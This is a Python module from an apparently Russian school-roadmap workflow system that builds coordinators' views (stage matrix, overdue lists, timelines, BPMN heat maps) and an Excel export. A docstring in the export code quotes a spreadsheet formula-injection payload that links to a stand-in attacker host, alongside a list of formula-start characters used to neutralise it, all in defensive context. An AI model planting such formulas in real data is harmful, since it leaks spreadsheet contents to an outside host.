"""Coordinators' views: stage matrix, overdue list, one school's timeline, the diagram of an instance
and a region's heat map — authorized by scope, read from instance and task rows (never workflow JSON).
"""

from __future__ import annotations

import io
from collections.abc import Iterable
from dataclasses import dataclass, field
from datetime import datetime
from typing import Any

from openpyxl import Workbook
from openpyxl.styles import Font, PatternFill
from sqlalchemy import func, select
from sqlalchemy.orm import Session, joinedload

from engine import labels
from engine.actors import Who
from engine.audit import instance_history
from engine.db import Database
from engine.errors import NotAllowed, NotFound
from engine.models import (
    AuditRecord,
    Municipality,
    ProcessInstance,
    Region,
    School,
    Task,
    TaskStatus,
    TemplateFile,
    TemplateVersion,
    User,
)
from engine.org.areas import OVERSEERS, Area, area_for, area_of
from engine.org.core import Actor, load_user, place_of
from engine.process.incidents import IncidentView, open_elements
from engine.process.management import may_manage
from engine.process.task_access import may_open
from engine.reports.status import AreaCounts, StageState, StatusReport, area_counts, stage_status
from engine.roles import ROLE_TITLES
from engine.templates.versions import find_version


def matrix(db: Database, template_key: str, area: Area, cohort_year: int | None = None, *, actor: Who) -> StatusReport:
    """The stage matrix of the area (schools × stages), after checking the actor may see it."""
    area_for(db, area.region_code, area.municipality_code, actor=actor)
    return stage_status(db, template_key, region_code=area.region_code, municipality_code=area.municipality_code,
                        cohort_year=cohort_year)


@dataclass(frozen=True)
class OverdueTask:
    task_id: int
    school_code: str
    school_name: str
    name: str
    role: str
    due_at: datetime
    escalation_level: int
    federal_overdue: bool
    assignee_name: str | None = None  # who took it, if anyone did: the person to call
    suspended: bool = False  # its roadmap is suspended: the task is held, nothing escalates


def _in_area(query: Any, area: Area) -> Any:
    """Only the tasks of the area's schools (the whole country when the area names none)."""
    if area.municipality_code:
        return query.join(Municipality, Municipality.id == Task.municipality_id).where(
            Municipality.code == area.municipality_code)
    if area.region_code:
        return query.join(Region, Region.id == Task.region_id).where(Region.code == area.region_code)
    return query


def overdue(db: Database, area: Area, *, actor: Who) -> dict[int, list[OverdueTask]]:
    """Open tasks past due in the area, by escalation level (highest first)."""
    with db.reading(replica=True) as session:
        area_of(session, load_user(session, actor), area.region_code, area.municipality_code)
        query = (select(Task, User.full_name, ProcessInstance.suspended_at).options(joinedload(Task.school))
                 .join(ProcessInstance, ProcessInstance.id == Task.instance_id)
                 .outerjoin(User, User.id == Task.assignee_id)
                 .where(Task.status == TaskStatus.READY, Task.due_at < db.now())
                 .order_by(Task.escalation_level.desc(), Task.due_at))
        query = _in_area(query, area)
        levels: dict[int, list[OverdueTask]] = {}
        for task, assignee, suspended_at in session.execute(query.limit(5000)):
            assert task.due_at is not None
            levels.setdefault(task.escalation_level, []).append(OverdueTask(
                task.id, task.school.code, task.school.name, task.name, ROLE_TITLES[task.role], task.due_at,
                task.escalation_level, task.federal_overdue, assignee, suspended_at is not None))
        return dict(sorted(levels.items(), reverse=True))


@dataclass(frozen=True)
class TimelineEntry:
    at: datetime
    action: str
    actor: str | None
    task: str | None
    details: dict[str, Any]


@dataclass(frozen=True)
class SchoolTimeline:
    school_code: str
    school_name: str
    instance_id: int | None
    current_stage: str | None
    status: str | None
    tasks: list[dict[str, Any]]
    events: list[TimelineEntry]
    incidents: list[IncidentView] = field(default_factory=list)  # open ones: where the roadmap is stuck
    suspended_at: datetime | None = None
    may_manage: bool = False  # the viewer may withdraw, suspend or resume it (engine/process/management.py)


def _instance_for_school(session: Session, actor: Actor, school_code: str) -> tuple[School, ProcessInstance | None]:
    school = session.scalar(select(School).where(School.code == school_code))
    if school is None or not actor.scope.sees(place_of(school)):
        raise NotFound(f"школа «{school_code}» не найдена")
    instance = session.scalar(select(ProcessInstance).where(ProcessInstance.school_id == school.id)
                              .order_by(ProcessInstance.id.desc()))
    return school, instance


def school_timeline(db: Database, school_code: str, *, actor: Who) -> SchoolTimeline:
    """One school's roadmap: its tasks (open and done) and every recorded event, oldest first."""
    with db.reading(replica=True) as session:
        user = load_user(session, actor)
        school, instance = _instance_for_school(session, user, school_code)
        return _timeline(session, user, school, instance)


def instance_timeline(db: Database, instance_id: int, *, actor: Who) -> tuple[SchoolTimeline, int]:
    """One instance with its tasks and history, and its version (for ETags)."""
    with db.reading() as session:
        user = load_user(session, actor)
        instance = session.get(ProcessInstance, instance_id)
        if instance is None or not user.scope.sees(place_of(instance.school)):
            raise NotFound(f"процесс {instance_id} не найден")
        return _timeline(session, user, instance.school, instance), instance.version


def _timeline(session: Session, viewer: Actor, school: School, instance: ProcessInstance | None) -> SchoolTimeline:
    if instance is None:
        return SchoolTimeline(school.code, school.name, None, None, None, [], [])
    rows = list(session.scalars(select(Task).where(Task.instance_id == instance.id).order_by(Task.id)))
    names = {t.id: t.name for t in rows}
    place = place_of(school)
    # ``may_open``: whether the viewer may open the task's page (a link), by the rule get_task keeps.
    tasks = [{"id": t.id, "name": t.name, "stage": t.stage, "role": ROLE_TITLES[t.role],
              "status": t.status.value, "due_at": t.due_at, "completed_at": t.completed_at,
              "escalation_level": t.escalation_level, "may_open": may_open(viewer, t.role, place)}
             for t in rows]
    history = instance_history(session, instance.id)
    actor_ids = {r.actor_id for r in history if r.actor_id is not None}
    logins: dict[int, str] = {uid: name for uid, name in session.execute(
        select(User.id, User.login).where(User.id.in_(actor_ids)))}
    events = [_entry(r, logins, names) for r in history]
    return SchoolTimeline(school.code, school.name, instance.id, instance.current_stage, instance.status.value,
                          tasks, events, open_elements(session, instance.id), instance.suspended_at,
                          may_manage(viewer, place))


def _entry(record: AuditRecord, logins: dict[int, str], names: dict[int, str]) -> TimelineEntry:
    details = {k: v for k, v in record.details.items() if k != "data"}
    return TimelineEntry(record.at, record.action, logins.get(record.actor_id) if record.actor_id else None,
                         names.get(record.task_id) if record.task_id else None, details)


@dataclass(frozen=True)
class DiagramState:
    instance_id: int
    done: list[str]
    current: list[str]
    overdue: list[str]
    # Current steps the viewer may open, element → task id: only these are links on the diagram (a school
    # sees where the curator's step is, but its page is not the school's to open).
    links: dict[str, int] = field(default_factory=dict)


def diagram_state(db: Database, instance_id: int, *, actor: Who) -> DiagramState:
    """Which BPMN activities of an instance are done, current and overdue — from the task table."""
    with db.reading() as session:
        user = load_user(session, actor)
        instance = session.get(ProcessInstance, instance_id)
        if instance is None or not user.scope.sees(place_of(instance.school)):
            raise NotFound(f"процесс {instance_id} не найден")
        rows = session.execute(select(Task.id, Task.element_id, Task.status, Task.due_at, Task.role)
                               .where(Task.instance_id == instance_id).order_by(Task.id))
        done, current, late, links = set(), set(), set(), {}
        now, place = db.now(), place_of(instance.school)
        for task_id, element, status, due, role in rows:
            if status is TaskStatus.COMPLETED:
                done.add(element)
            elif status is TaskStatus.READY:
                current.add(element)
                if due is not None and due < now:
                    late.add(element)
                if may_open(user, role, place):
                    links[element] = task_id
        return DiagramState(instance_id, sorted(done - current), sorted(current), sorted(late), links)


def diagram_xml(db: Database, instance_id: int, *, actor: Who) -> bytes:
    """The BPMN file of the instance's own template version."""
    with db.reading() as session:
        user = load_user(session, actor)
        instance = session.get(ProcessInstance, instance_id)
        if instance is None or not user.scope.sees(place_of(instance.school)):
            raise NotFound(f"процесс {instance_id} не найден")
        content = session.scalar(select(TemplateFile.content).where(
            TemplateFile.template_version_id == instance.template_version_id, TemplateFile.path.like("%.bpmn"))
            .order_by(TemplateFile.path).limit(1))
        if content is None:
            raise NotFound("у шаблона нет BPMN-файла")
        return content


def _open_tasks_of_template(template_key: str, *columns: Any) -> Any:
    return (select(*columns)
            .join(ProcessInstance, ProcessInstance.id == Task.instance_id)
            .join(TemplateVersion, TemplateVersion.id == ProcessInstance.template_version_id)
            .where(Task.status == TaskStatus.READY, TemplateVersion.key == template_key))


def heat_map(db: Database, area: Area, template_key: str, *, actor: Who) -> dict[str, int]:
    """How many of the area's instances of a template wait at each BPMN activity (open tasks per element)."""
    with db.reading(replica=True) as session:
        area_of(session, load_user(session, actor), area.region_code, area.municipality_code)
        query = _open_tasks_of_template(template_key, Task.element_id, func.count(func.distinct(Task.instance_id)))
        query = _in_area(query, area).group_by(Task.element_id)
        return {element: int(count) for element, count in session.execute(query)}


@dataclass(frozen=True)
class WaitingSchool:
    """A school waiting at one step of the heat map: the open task there, its deadline and who holds it."""

    school_code: str
    school_name: str
    municipality: str
    task_id: int
    task_name: str
    role: str
    due_at: datetime | None
    overdue: bool
    escalation_level: int


def waiting_at(db: Database, area: Area, template_key: str, element_id: str, *, actor: Who) -> list[WaitingSchool]:
    """The schools of the area whose roadmap waits at ``element_id`` (a heat-map count, listed), the most
    overdue first; the same rows the count is made of."""
    with db.reading(replica=True) as session:
        area_of(session, load_user(session, actor), area.region_code, area.municipality_code)
        query = _open_tasks_of_template(template_key, School.code, School.name, Municipality.name, Task.id, Task.name,
                                        Task.role, Task.due_at, Task.escalation_level)
        if not area.municipality_code:  # _in_area joins the municipality only when it filters by it
            query = query.join(Municipality, Municipality.id == Task.municipality_id)
        query = (_in_area(query, area).join(School, School.id == Task.school_id)
                 .where(Task.element_id == element_id)
                 .order_by(Task.due_at.is_(None), Task.due_at, School.name, Task.id).limit(5000))
        now = db.now()
        return [WaitingSchool(code, name, municipality, task_id, task_name, ROLE_TITLES[role], due_at,
                              due_at is not None and due_at < now, level)
                for code, name, municipality, task_id, task_name, role, due_at, level in session.execute(query)]


_FILLS = {StageState.DONE: "C6EFCE", StageState.CURRENT: "BDD7EE", StageState.PENDING: "FFFFFF",
          StageState.SKIPPED: "EDEDED", StageState.WITHDRAWN: "F8CBAD"}

#: Leading characters a spreadsheet may take for the start of a formula (OWASP's "CSV injection").
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _text_cells(cells: Iterable[Any]) -> None:
    """Text stays text. openpyxl stores a string starting with «=» as a formula, so a school named
    ``=HYPERLINK("http://evil.example/?"&A3,"Открыть")`` became a live link in every coordinator's Excel
    (issue 14). A string cell cannot be evaluated; the quote prefix keeps it text when someone edits it."""
    for cell in cells:
        if isinstance(cell.value, str):
            cell.data_type = "s"
            if cell.value.startswith(_FORMULA_START):
                cell.quotePrefix = True


def matrix_xlsx(report: StatusReport, area: Area) -> bytes:
    """The stage matrix as an Excel workbook: one row per school, one column per stage."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Этапы"
    header = ["Код школы", "Школа", "Муниципалитет", *[s.title for s in report.stages], "Открытых задач",
              "Просрочено", "Уровень эскалации"]
    sheet.append([f"«500+»: этапы дорожной карты — {area.title}"])
    sheet.append(header)
    for cell in sheet[2]:
        cell.font = Font(bold=True)
    for row in report.schools:
        states = [row.stages[s.key] for s in report.stages]
        sheet.append([row.school_code, row.school_name, row.municipality_code,
                      *[labels.STAGE_STATES[s] + (" (просрочено)" if k.key in row.overdue_stages else "")
                        for s, k in zip(states, report.stages, strict=True)],
                      row.open_tasks, row.overdue_tasks, row.escalation_level])
        for offset, state in enumerate(states):
            cell = sheet.cell(row=sheet.max_row, column=4 + offset)
            cell.fill = PatternFill("solid", fgColor="F8CBAD" if report.stages[offset].key in row.overdue_stages
                                    else _FILLS[state])
    for cells in sheet.iter_rows():
        _text_cells(cells)
    sheet.freeze_panes = "D3"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def template_process(db: Database, template_key: str) -> str:
    """The id of the process a template starts (the heat map zooms to its pool)."""
    with db.reading() as session:
        return str(find_version(session, template_key, include_retired=True).spec["process_id"])


def template_xml(db: Database, template_key: str, *, actor: Who) -> bytes:
    """The BPMN of the newest version of a template (for the heat map): coordinators and admins only."""
    with db.reading() as session:
        user = load_user(session, actor)
        if not any(g.role in OVERSEERS for g in user.scope.grants):
            raise NotAllowed("схема доступна координаторам и администраторам")
        version = find_version(session, template_key, include_retired=True)
        content = session.scalar(select(TemplateFile.content).where(
            TemplateFile.template_version_id == version.id, TemplateFile.path.like("%.bpmn")).limit(1))
        if content is None:
            raise NotFound("у шаблона нет BPMN-файла")
        return content


def area_summary(db: Database, template_key: str, area: Area, cohort_year: int | None = None, *,
                 actor: Who) -> tuple[list[Any], list[AreaCounts]]:
    """For the country: counts per region; for a region: per municipality (after checking the scope)."""
    area_for(db, area.region_code, area.municipality_code, actor=actor)
    return area_counts(db, template_key, region_code=area.region_code, cohort_year=cohort_year)
